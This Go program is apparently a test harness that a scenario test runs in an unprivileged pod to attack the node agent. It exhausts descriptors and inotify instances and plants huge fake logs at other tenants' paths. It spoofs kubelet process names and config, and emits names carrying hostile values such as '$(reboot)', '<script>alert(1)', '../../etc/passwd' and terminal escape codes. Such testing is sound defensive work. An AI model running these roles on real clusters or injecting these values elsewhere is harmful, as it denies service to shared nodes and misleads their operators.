// Attack is what a restricted pod can do to the agent of its node, all at once. TestAttack
// of the package scenario runs it in a pod. It needs no privilege, and harms nothing but
// what a tenant may use: descriptors, inotify instances, files of its own volumes, names,
// and connections to the port of the agent.
//
//	attack HOST:PORT DURATION
//
// It prints what each role did, one a line: "role NAME: COUNTS".
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"
)

const (
	descriptors = 320_000 // of one file, and as many copies of one inotify instance
	volume      = "/var/log"
	programName = "/work/kubelet" // any name will do
)

// roles are the parts of the attack, each a process of its own or many.
var roles = map[string]func(target string, until time.Time) string{
	"files": func(_ string, until time.Time) string { return hold(until, openFile) },
	"dups":  func(_ string, until time.Time) string { return hold(until, copies) },
	"instances": func(_ string, until time.Time) string {
		return instances(until)
	},
	"namespaces":  func(_ string, until time.Time) string { return namespaces(until) },
	"deep":        func(_ string, until time.Time) string { return deep(until) },
	"names":       func(_ string, until time.Time) string { return names(until) },
	"bombs":       func(_ string, until time.Time) string { return bombs(until) },
	"readers":     func(_ string, until time.Time) string { return readers(until) },
	"comms":       func(_ string, until time.Time) string { return comms(until) },
	"comm":        comm,
	"lines":       func(_ string, until time.Time) string { return lines(until) },
	"connections": connections,
	"requests":    requests,
}

func main() {
	runtime.LockOSThread() // the name of a thread is the one that prctl(2) sets
	role, target := "", ""
	var duration time.Duration
	var err error
	switch len(os.Args) {
	case 3:
		target = os.Args[1]
		duration, err = time.ParseDuration(os.Args[2])
	case 4, 5:
		role, target = os.Args[1], os.Args[2]
		duration, err = time.ParseDuration(os.Args[3])
	default:
		err = fmt.Errorf("usage: attack HOST:PORT DURATION")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	until := time.Now().Add(duration)
	if role != "" {
		done := roles[role](target, until)
		if done == "" {
			return
		}
		_, _ = fmt.Fprintf(os.Stdout, "role %s: %s\n", role, done)
		return
	}
	var processes sync.WaitGroup
	for _, name := range order() {
		n := 1
		if name == "files" || name == "dups" {
			n = (descriptors + limit() - 1) / limit()
		}
		for range n {
			processes.Go(func() { run(name, target, duration) })
		}
	}
	processes.Wait()
	_, _ = fmt.Fprintln(os.Stdout, "attack: done")
}

func order() []string {
	var all []string
	for name := range roles {
		if name != "comm" { // of comms
			all = append(all, name)
		}
	}
	slices.Sort(all)
	return all
}

func run(role, target string, d time.Duration) {
	cmd := exec.Command("/proc/self/exe", role, target, d.String())
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		_, _ = fmt.Fprintf(os.Stdout, "role %s: failed: %v\n", role, err)
	}
}

// limit is how many descriptors a process may have, without those of its own needs.
func limit() int {
	var r syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &r); err != nil {
		return 1
	}
	r.Cur = r.Max
	_ = syscall.Setrlimit(syscall.RLIMIT_NOFILE, &r)
	return int(min(r.Max, 1<<20)) - 40
}

func sleep(until time.Time) { time.Sleep(time.Until(until)) }

// hold opens descriptors until no more fit.
func hold(until time.Time, first func() (int, error)) string {
	most := min(limit(), descriptors)
	fd, err := first()
	if err != nil {
		return err.Error()
	}
	n := 1
	for ; n < most; n++ {
		if _, err := syscall.Dup(fd); err != nil {
			break
		}
	}
	sleep(until)
	return fmt.Sprintf("%d descriptors", n)
}

// openFile opens a file whose path is as long as the kernel allows, and looks like a log.
func openFile() (int, error) {
	dir := filepath.Join(volume, fmt.Sprintf("long-%d", os.Getpid()))
	for len(dir) < 3600 {
		dir = filepath.Join(dir, strings.Repeat("log", 80))
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return -1, err
	}
	return syscall.Open(filepath.Join(dir, "app.log"), syscall.O_CREAT|syscall.O_RDWR, 0o644)
}

func copies() (int, error) { return syscall.InotifyInit1(0) }

// instances takes all instances of its user, and asks for more all the time.
func instances(until time.Time) string {
	limit()
	held, refused := 0, 0
	for time.Now().Before(until) {
		if _, err := syscall.InotifyInit1(0); err == nil {
			held++
			continue
		}
		if refused++; refused%100 == 0 {
			time.Sleep(10 * time.Millisecond)
		}
	}
	return fmt.Sprintf("%d instances, %d refusals", held, refused)
}

// namespaces asks for a user namespace, in which it would lower its own limits.
func namespaces(until time.Time) string {
	made, refused := 0, 0
	for time.Now().Before(until) {
		cmd := exec.Command("/proc/self/exe", "instances", "-", "1s")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
		if err := cmd.Run(); err != nil {
			refused++
		} else {
			made++
		}
		time.Sleep(time.Second)
	}
	return fmt.Sprintf("%d user namespaces, %d refused", made, refused)
}

// deep makes directories within directories, and more of them beside each other.
func deep(until time.Time) string {
	n := 0
	for range 2 {
		dir, err := syscall.Open(volume, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
		if err != nil {
			return err.Error()
		}
		name := fmt.Sprintf("deep-%d", n)
		for range 8000 {
			if syscall.Mkdirat(dir, name, 0o755) != nil {
				break
			}
			below, err := syscall.Openat(dir, name, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
			_ = syscall.Close(dir)
			if err != nil {
				return err.Error()
			}
			dir, name = below, strings.Repeat("d", 100)
			n++
		}
		_ = syscall.Close(dir)
	}
	sleep(until)
	return fmt.Sprintf("%d directories", n)
}

// hostile are names that a terminal, a page, a shell or a person takes for something else.
var hostile = []string{
	"\x1b[31mkubelet", "kube-system/coredns", "<script>alert(1)", "$(reboot)", "a\nReady=False", "../../etc/passwd", "\xff\xfe\xfd", "kubelet", "dockerd", "containerd-shim",
}

func names(until time.Time) string {
	n := 0
	for i := range 100_000 {
		if i%10_000 == 0 && !time.Now().Before(until) {
			break
		}
		name := strings.ReplaceAll(hostile[i%len(hostile)], "/", "_")
		f, err := os.Create(fmt.Sprintf("%s/%s-%d.log", volume, name, i))
		if err != nil {
			break
		}
		_ = f.Close()
		n++
	}
	sleep(until)
	return fmt.Sprintf("%d files", n)
}

// readers has files at the paths of other tenants' logs, in its own view, of a size that
// nobody could read, and holds them at their beginning.
func readers(until time.Time) string {
	n := 0
	for _, pod := range []string{"kube-system_coredns_11111111-2222-3333-4444-555555555555/coredns", "victims_victim_22222222-2222-3333-4444-555555555555/victim"} {
		dir := filepath.Join(volume, "pods", pod)
		if os.MkdirAll(dir, 0o755) != nil {
			continue
		}
		f, err := os.Create(filepath.Join(dir, "0.log"))
		if err != nil {
			continue
		}
		_ = f.Truncate(1 << 40)
		if _, err := os.Open(f.Name()); err == nil {
			n++
		}
	}
	sleep(until)
	return fmt.Sprintf("%d logs of others", n)
}

// comms starts processes that have the names of others, one of them with the command line
// and the configuration of a kubelet.
func comms(until time.Time) string {
	config := filepath.Join(volume, "kubelet.yaml")
	_ = os.WriteFile(config, []byte("kind: KubeletConfiguration\napiVersion: kubelet.config.k8s.io/v1beta1\ncontainerLogMaxSize: 1Ki\ncontainerLogMaxFiles: 2\nevictionHard: {nodefs.available: 99%}\n"), 0o644)
	var all []*exec.Cmd
	for i := range 200 {
		cmd := exec.Command("/proc/self/exe", "comm", fmt.Sprint(i), time.Until(until).String())
		if i%len(hostile) == 7 {
			cmd.Args = []string{programName, "comm", fmt.Sprint(i), time.Until(until).String(), "--config=" + config}
		}
		if cmd.Start() == nil {
			all = append(all, cmd)
		}
	}
	for _, cmd := range all {
		_ = cmd.Wait()
	}
	return fmt.Sprintf("%d processes", len(all))
}

// comm is a process with the name of another, and a log of another open.
func comm(number string, until time.Time) string {
	n, _ := strconv.Atoi(number)
	setComm(hostile[n%len(hostile)])
	sleep(until)
	return ""
}

// setComm gives the calling thread a name.
func setComm(name string) {
	b := append([]byte(name), 0)
	_, _, _ = syscall.RawSyscall(syscall.SYS_PRCTL, syscall.PR_SET_NAME, uintptr(unsafe.Pointer(&b[0])), 0)
}

// lines says what programs say that have met a limit, also of others, and that a terminal
// would obey.
func lines(until time.Time) string {
	n := 0
	for time.Now().Before(until) {
		for range 20 {
			_, _ = fmt.Fprintf(os.Stdout, "inotify_init1: too many open files: pod kube-system/coredns %q failed to create fsnotify watcher %d\n", hostile[n%len(hostile)], n)
			n++
		}
		time.Sleep(50 * time.Millisecond)
	}
	return fmt.Sprintf("%d lines", n)
}
